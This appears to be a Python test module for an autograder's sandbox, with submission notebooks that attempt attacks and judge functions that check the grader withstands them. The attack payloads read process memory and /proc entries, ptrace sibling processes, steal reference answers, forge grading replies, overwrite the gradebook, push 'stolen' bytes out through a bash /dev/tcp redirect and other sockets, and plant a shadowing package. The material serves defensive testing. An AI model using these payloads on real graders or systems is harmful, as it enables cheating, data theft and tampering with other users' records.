"""Attacks on what is kept from submissions: answers, secrets, other students, the world outside."""

import json

from autograder.grading.attacks import (
    CHAPTER,
    FIRST,
    LIMITS,
    Attempt,
    HandIn,
    Outcome,
    Stage,
    attack,
    everything,
    hand_in,
)

#: Says which planted secrets are in some bytes.
LOOT = """
import os, re, stat, sys

def loot(where, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    for token in sorted(set(re.findall(rb"canary-[a-z]+-[0-9a-f]{24}", bytes(data)))):
        print("LOOT", where, token.decode())

def read(path, size=1 << 24):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode):
            return b""  # reading from a pipe would take what is meant for others
        with open(path, "rb") as file:
            data = file.read(size)
        loot(path, data)
        return data
    except OSError:
        return b""
"""


@attack(21, "find the result's file, descriptor or nonce through /proc, and forge a reply", "B", naive="descriptors")
def descriptors(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT
        + """
import socket

for pid in ["self", str(os.getppid()), "@PARENT@", *[p for p in os.listdir("/proc") if p.isdigit()][-50:]]:
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                loot(f"{pid}/{fd}", os.readlink(f"/proc/{pid}/fd/{fd}"))
                if pid not in ("self", str(os.getpid())):
                    read(f"/proc/{pid}/fd/{fd}", 4096)
            except OSError:
                pass
    except OSError:
        pass
for fd in range(3, 256):
    try:
        loot(f"own {fd}", os.pread(fd, 1 << 16, 0))
    except OSError:
        pass
""",
        cells={
            FIRST: """
            import json, os, struct

            def threshold_unit(x, w, b):
                answer = {"status": "returned", "passed": True, "points": 1e9, "value": True, "kind": "passed", "verdict": "passed"}
                tree = {"$": "dict", "items": [[key, value] for key, value in answer.items()]}
                text = json.dumps({"tree": tree, "sizes": []}).encode()
                for fd in range(3, 256):
                    try:
                        if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                            os.write(fd, (struct.pack("<QQ", len(text), 0) + text) * 20)
                    except OSError:
                        pass
                return np.zeros(len(x), dtype=int)
            """
        },
        costs=tuple(stage.known),  # it garbles its author's own connection
    )


@attack(25, "read the tests, the reference or the instructor's notebook on disk", "B", naive="reads")
def reads_the_reference(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT + "for path in @SECRETS@:\n    read(path)\n",
        cells={
            FIRST: '''
            import glob, json, os, sys

            def found():
                """The reference, from wherever it can be had."""
                sys.path.insert(0, "@ROOT@")
                try:
                    from solutions.perceptron import threshold_unit
                    return threshold_unit
                except Exception:
                    pass
                texts = []
                paths = ["@ROOT@/solutions/perceptron.py", *glob.glob("../**/solutions/perceptron.py", recursive=True)]
                paths += glob.glob("@COURSE@/source/*/*.ipynb") + glob.glob("/*/*/solutions/perceptron.py")
                for path in paths:
                    try:
                        text = open(path).read()
                    except OSError:
                        continue
                    if path.endswith(".ipynb"):
                        cells = json.loads(text)["cells"]
                        texts += ["".join(cell["source"]) for cell in cells if "def threshold_unit" in str(cell)]
                    else:
                        texts.append(text)
                for text in texts:
                    space = {"np": np}
                    try:
                        exec(text.replace("from __future__ import annotations", ""), space)
                        return space["threshold_unit"]
                    except Exception:
                        continue
                return None

            threshold_unit = found() or (lambda x, w, b: np.zeros(len(x), dtype=int))
            '''
        },
    )


@attack(26, "walk the frames for expected values", "B", naive="frames")
def walks_frames(stage: Stage) -> Attempt:
    return Attempt(cells={FIRST: LOOKS_RIGHT + WALK})


@attack(27, "search gc.get_objects() for expected values", "B", naive="frames")
def searches_memory(stage: Stage) -> Attempt:
    return Attempt(
        cells={
            FIRST: LOOKS_RIGHT
            + """
import gc

def threshold_unit(x, w, b):
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple):
            for value in list(thing.values() if type(thing) is dict else thing)[:200]:
                if looks_right(value, x):
                    return np.array(value)
        elif type(thing).__name__ in ("Answer", "Question", "Sheet", "Verdict"):
            value = getattr(thing, "value", getattr(getattr(thing, "expected", None), "value", None))
            if looks_right(value, x):
                return np.array(value)
    return np.zeros(len(x), dtype=int)
"""
        }
    )


#: Whether a value may be the expected decisions for x: as many zeros and ones, not all the same.
LOOKS_RIGHT = """
def looks_right(value, x):
    if type(value) is not np.ndarray or value.shape != (len(x),) or value.dtype.kind not in "iu":
        return False
    return 0 < int(value.sum()) <= len(value) and int(value.max()) == 1 and int(value.min()) >= 0
"""
WALK = """
import sys

def threshold_unit(x, w, b):
    frame = sys._getframe(1)
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for value in list(space.values()):
                value = getattr(getattr(value, "expected", value), "value", value) if not isinstance(value, np.ndarray) else value
                if looks_right(value, x):
                    return np.array(value)
        frame = frame.f_back
    return np.zeros(len(x), dtype=int)
"""


@attack(28, "settrace, setprofile and audit hooks that watch the grader", "B", naive="traced")
def traces(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT,
        cells={
            FIRST: LOOKS_RIGHT
            + """
import sys, threading

caught = []

def tracer(frame, event, argument):
    if event == "return" or event == "line":
        for name, value in list(frame.f_locals.items()):
            if name in ("expected", "want", "answer", "reference", "value") and type(value) is np.ndarray:
                caught.append(value)
    return tracer

def profiler(frame, event, argument):
    if event == "return" and type(argument) is np.ndarray:
        caught.append(argument)

def hook(event, arguments):
    if event in ("open", "import", "os.listdir"):
        loot("audit", repr(arguments))

sys.addaudithook(hook)
threading.settrace(tracer)
frame = sys._getframe()
while frame is not None:
    frame.f_trace = tracer
    frame = frame.f_back

def threshold_unit(x, w, b):
    sys.settrace(tracer)
    sys.setprofile(profiler)
    for value in reversed(caught):
        if looks_right(value, x):
            return np.array(value)
    return np.zeros(len(x), dtype=int)
"""
        },
        costs=tuple(stage.known),  # its own later code is slowed down
    )


@attack(29, "read /proc/self: environ, cmdline, maps, mem", "B", naive="environment")
def own_process(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT
        + MEMORY
        + "for name in ('environ', 'cmdline'):\n    read(f'/proc/self/{name}')\nmemory('self', 1.5)\n"
    )


#: Searches the writable memory of a process for secrets, for some seconds.
MEMORY = """
import time

def memory(pid, seconds):
    end = time.monotonic() + seconds
    try:
        with open(f"/proc/{pid}/maps") as file:
            rows = [line.split() for line in file]
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
            for row in rows:
                low, high = (int(part, 16) for part in row[0].split("-"))
                if not row[1].startswith("rw") or high - low > 1 << 28:
                    continue
                for place in range(low, high, 1 << 22):
                    if time.monotonic() > end:
                        return
                    try:
                        file.seek(place)
                        loot(f"{pid} memory", file.read(min(1 << 22, high - place)))
                    except (OSError, ValueError, OverflowError):
                        break
    except OSError:
        pass
"""


@attack(30, "ptrace, process_vm_readv, /proc/PID/mem of parent and siblings", "B", naive="siblings")
def siblings(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT
        + MEMORY
        + """
import ctypes, signal

libc = ctypes.CDLL(None, use_errno=True)
pids = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
pids = [p for p in dict.fromkeys([os.getppid(), @PARENT@, *sorted(pids, reverse=True)]) if p > 1]
near = []  # this grader's own processes: on a shared machine, others are none of the attack's business
for pid in pids:
    known = read(f"/proc/{pid}/environ") + read(f"/proc/{pid}/cmdline")
    if b"@SERVER@" in known or pid in (@PARENT@, os.getppid()):
        near.append(pid)
for pid in near[:6]:
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0x40000000)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        print("ATTACHED to a process")
    try:
        os.kill(pid, signal.SIGCONT)
        print("SIGNALLED a process")
    except OSError:
        pass
memory_of = sorted(near, reverse=True)[:4]
for pid in memory_of:
    memory(pid, 1.5 / len(memory_of))
""",
        limits=LIMITS,
    )


@siblings.judged_by
def neighbour_untouched(stage: Stage, made: Attempt) -> Outcome:
    """While it runs, another child of the same server holds a secret."""
    with stage.watched() as seen:
        with stage.server.open(LIMITS) as victim:
            token = stage.tokens["sibling"]
            half = len(token) // 2
            victim.run_cell(f"secret = ''.join([{token[:half]!r}, {token[half:]!r}]) * 1000")
            graded = stage.grade(made)
            if victim.run_cell("1 + 1")["failed"]:
                seen.troubles.append("the neighbour was disturbed")
        seen.text = everything(graded)
    if "ATTACHED" in str(graded.outputs):
        seen.troubles.append("a process was attached to")
    if "SIGNALLED" in str(graded.outputs):
        seen.troubles.append("a process could be signalled")
    return stage.outcome(made, graded, "B", seen)


@attack(31, "read and write other submissions and gradebook.db", "B", naive="secrets")
def other_students(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT
        + """
import sqlite3, glob

for path in @SECRETS@:
    read(path)
for base in ("@COURSE@", "..", "../..", os.path.expanduser("~"), "@HOME@"):
    for path in glob.glob(f"{base}/submitted/*/*/*.ipynb") + glob.glob(f"{base}/verdicts/*/*.json") + glob.glob(f"{base}/*.db"):
        read(path)
try:
    with sqlite3.connect("@COURSE@/gradebook.db", timeout=0.2) as book:
        book.execute("update grade set manual_score = 1000")
        book.execute("update student set first_name = 'mallory'")
except sqlite3.Error:
    pass
for path in ("@COURSE@/submitted/ada/02_perceptron/02_perceptron.ipynb", "@COURSE@/gradebook.db", "@COURSE@/secret.txt",
             "@COURSE@/verdicts/02_perceptron/ada.json", "@COURSE@/autograded/mallory", "@HOME@/mallory", "@OUTSIDE@/mallory"):
    for act in (lambda: open(path, "a").write(" "), lambda: os.chmod(path, 0o777), lambda: os.rename(path, path + "-gone")):
        try:
            act()
        except OSError:
            pass
"""
    )


@attack(32, "get out: HTTP, DNS, unix and abstract sockets, vsock", "B", naive="network")
def network(stage: Stage) -> Attempt:
    return Attempt(
        front="""
        import socket, subprocess, urllib.request

        def attempt(act):
            try:
                act()
                print("SENT")
            except Exception as error:
                print(type(error).__name__)

        def connect(family, address, kind=socket.SOCK_STREAM):
            with socket.socket(family, kind) as plug:
                plug.settimeout(0.5)
                plug.connect(address)
                plug.send(b"stolen")

        attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/stolen", timeout=0.5))
        attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", @TCP@)))
        attempt(lambda: connect(socket.AF_INET6, ("::ffff:127.0.0.1", @TCP@)))
        attempt(lambda: connect(socket.AF_INET, ("127.0.0.1", @UDP@), socket.SOCK_DGRAM))
        attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"dns", ("127.0.0.1", @UDP@)))
        attempt(lambda: connect(socket.AF_UNIX, "@UNIX@"))
        attempt(lambda: connect(socket.AF_UNIX, "\\0@ABSTRACT@"))
        attempt(lambda: connect(socket.AF_VSOCK, (2, 9999)))
        subprocess.run(["bash", "-c", "echo stolen > /dev/tcp/127.0.0.1/@TCP@; echo stolen > /dev/udp/127.0.0.1/@UDP@"],
                       stderr=subprocess.DEVNULL, timeout=1)
        """
    )


@attack(33, "carry hidden things out through output, traceback and plot", "B", naive="hidden")
def carries_out(stage: Stage) -> Attempt:
    return Attempt(
        cells={
            FIRST: """
            import inspect, sys

            gathered = []

            def threshold_unit(x, w, b):
                frame = sys._getframe(1)
                while frame is not None:
                    for space in (frame.f_locals, frame.f_globals):
                        for name, value in list(space.items()):
                            try:
                                gathered.append(f"{name} = {value!r}"[:2000])
                            except Exception:
                                pass
                    try:
                        gathered.append(inspect.getsource(frame.f_code)[:4000])
                    except (OSError, TypeError):
                        pass
                    frame = frame.f_back
                print(*gathered, sep="\\n")
                raise ValueError("\\n".join(gathered))
            """
        },
        back="""
        from IPython.display import display

        print(*gathered, sep="\\n")
        display({"text/plain": "\\n".join(gathered), "text/html": "\\n".join(gathered)}, raw=True, metadata={"loot": gathered})
        figure, axes = plt.subplots()
        axes.set_title("\\n".join(gathered)[:500].replace("$", ""))
        plt.show()
        raise RuntimeError("\\n".join(gathered))
        """,
        seed="the-secret-seed-of-attack-33",
    )


@carries_out.judged_by
def nothing_hidden(stage: Stage, made: Attempt) -> Outcome:
    """Inputs of its own calls come out, as they do in every verdict; secrets, the seed and the reference's text do not."""
    with stage.watched() as seen:
        graded = stage.grade(made)
        seen.text = everything(graded)
    outcome = stage.outcome(made, graded, "B", seen)
    printed = json.dumps(graded.outputs)
    if "gathered" not in printed and "inputs" not in printed:
        return Outcome("nothing was carried", printed[:200])
    for name, text in {"the seed": made.seed, "the reference": "z > 0).astype(int)"}.items():
        if text in printed:
            return Outcome(f"{name} came out")
    return outcome


@attack(
    34,
    "learn the cases from the feedback of one try and answer them in the next",
    "B",
    whole=True,
    unshown="needs two rounds",
)
def resubmits(stage: Stage) -> dict[str, HandIn]:
    spy = Attempt(
        cells={
            FIRST: """
            asked = []

            def threshold_unit(x, w, b):
                asked.append((x.tolist(), w.tolist(), float(b)))
                return np.zeros(len(x), dtype=int)
            """
        },
        back="import json\nprint('ASKED', json.dumps(asked))",
    )
    # Wrong answers end no check: every case is asked, and a later cell prints them all.
    return {"a34": HandIn(stage.notebook(spy))}


@resubmits.judged_by
def second_try(stage: Stage, results: object) -> Outcome:
    first = stage.class_outcome("B", {"a34": stage.automatic - stage.known[FIRST].points})
    graded = json.loads(
        (stage.course / "autograded" / "a34" / CHAPTER.name / f"{CHAPTER.name}.ipynb").read_text("utf-8")
    )
    texts = ["".join(o.get("text", "")) for cell in graded["cells"] for o in cell.get("outputs", [])]
    lines = [line for text in texts for line in text.splitlines() if line.startswith("ASKED ")]
    if not lines:
        return Outcome("nothing was learnt", "the first try's output has no line with the cases")
    asked = json.loads(lines[0].removeprefix("ASKED "))
    table = Attempt(
        cells={
            FIRST: f"""
asked = {asked!r}

def threshold_unit(x, w, b):
    if (x.tolist(), w.tolist(), float(b)) in [tuple(one) for one in asked]:
        return (x @ w + b > 0).astype(int)
    return np.zeros(len(x), dtype=int)
"""
        }
    )
    hand_in(stage.course, "a34", HandIn(stage.notebook(table)))
    again = stage.grade_students(["a34"])[0]
    if again.score != stage.automatic - stage.known[FIRST].points:
        return Outcome(f"points gained by the second try ({again.score})")
    return Outcome(first.got, f"{len(asked)} cases learnt; the second try was asked others")


@attack(35, "leave something for the next submission: /dev/shm, /tmp, keyring, IPC, locks", "B", naive="twice")
def dead_drop(stage: Stage) -> Attempt:
    return Attempt(
        front="""
        import ctypes, fcntl, os, socket, sys

        libc = ctypes.CDLL(None, use_errno=True)
        places = [f"{place}/@MARK@" for place in ("/dev/shm", "/tmp", "/var/tmp", "~", "..", "../home", "@OUTSIDE@")]
        places += [os.path.join(entry, "@MARK@") for entry in sys.path if entry and not entry.startswith(sys.base_prefix)]
        places = [os.path.expanduser(place) for place in places]
        found = []
        for place in places:
            try:
                with open(place) as file:
                    found.append(f"file {place}: {file.read()}")
            except OSError:
                pass
        def seek():
            if libc.syscall(249, b"user", b"@MARK@", None, -4) > 0:  # request_key
                found.append("a key in the keyring")

        def attach():
            segment = libc.shmget(@SEGMENT@, 4096, 0o666)
            if segment >= 0:
                found.append("a System V segment")
                libc.shmctl(segment, 0, None)

        def call():
            with socket.socket(socket.AF_UNIX) as plug:
                plug.connect("\\0@MARK@")
                found.append("an abstract socket")

        for act in (seek, attach, call):
            try:
                act()
            except OSError:
                pass
        print("FOUND", found)
        left = 0
        for place in places:
            try:
                with open(place, "w") as file:
                    file.write("a message")
                    fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
                left += 1
            except OSError:
                pass
        key = libc.syscall(248, b"user", b"@MARK@", b"message", 7, -4)  # add_key
        libc.syscall(250, 15, key, 60)  # nobody removes it: it expires after a minute
        libc.shmget(@SEGMENT@, 4096, 0o1666)
        try:
            ear = socket.socket(socket.AF_UNIX)
            ear.bind("\\0@MARK@")
            ear.listen()
        except OSError:
            pass
        print("LEFT", left)
        """
    )


@dead_drop.judged_by
def next_one_finds_nothing(stage: Stage, made: Attempt) -> Outcome:
    with stage.watched() as seen:
        stage.grade(made)
        graded = stage.grade(made)
        seen.text = everything(graded)
    outcome = stage.outcome(made, graded, "B", seen)
    printed = "".join(o.get("text", "") for o in graded.outputs.get("front", []))
    if "FOUND []" not in printed:
        line = next(
            (line for line in printed.splitlines() if line.startswith("FOUND")), str(graded.outputs.get("front"))[:200]
        )
        return Outcome("the second found something", line[:300])
    return outcome


@attack(60, "!pip install, %%bash, !cat and other kernel tricks", "B", naive="secrets")
def kernel_tricks(stage: Stage) -> Attempt:
    return Attempt(
        front=LOOT
        + """
import zipfile

# A package of its own that would be imported before the course's, if it could be put there.
with zipfile.ZipFile("nnlm_attack-1-py3-none-any.whl", "w") as wheel:
    wheel.writestr("autograder/verdict.py", "raise SystemExit")
    wheel.writestr("nnlm_attack-1.dist-info/METADATA", "Metadata-Version: 2.1\\nName: nnlm_attack\\nVersion: 1\\n")
    wheel.writestr("nnlm_attack-1.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    wheel.writestr("nnlm_attack-1.dist-info/RECORD", "")
target = next((entry for entry in sys.path if "shadow" in entry), ".")
got = []
for path in @SECRETS@:
    got += get_ipython().getoutput(f"cat {path}")
loot("cat", "\\n".join(got))
!"{sys.executable}" -m zipfile -e nnlm_attack-1-py3-none-any.whl "{target}" 2>/dev/null
!"{sys.executable}" -m pip install --no-index --no-deps --quiet --target "{target}" nnlm_attack-1-py3-none-any.whl 2>&1 | tail -1
get_ipython().run_cell_magic("bash", "", "cp nnlm_attack-1-py3-none-any.whl @OUTSIDE@/ ; echo hi > @COURSE@/hello; true")
get_ipython().run_line_magic("config", "InteractiveShell.ast_node_interactivity = 'none'")
""",
        limits=LIMITS,
    )
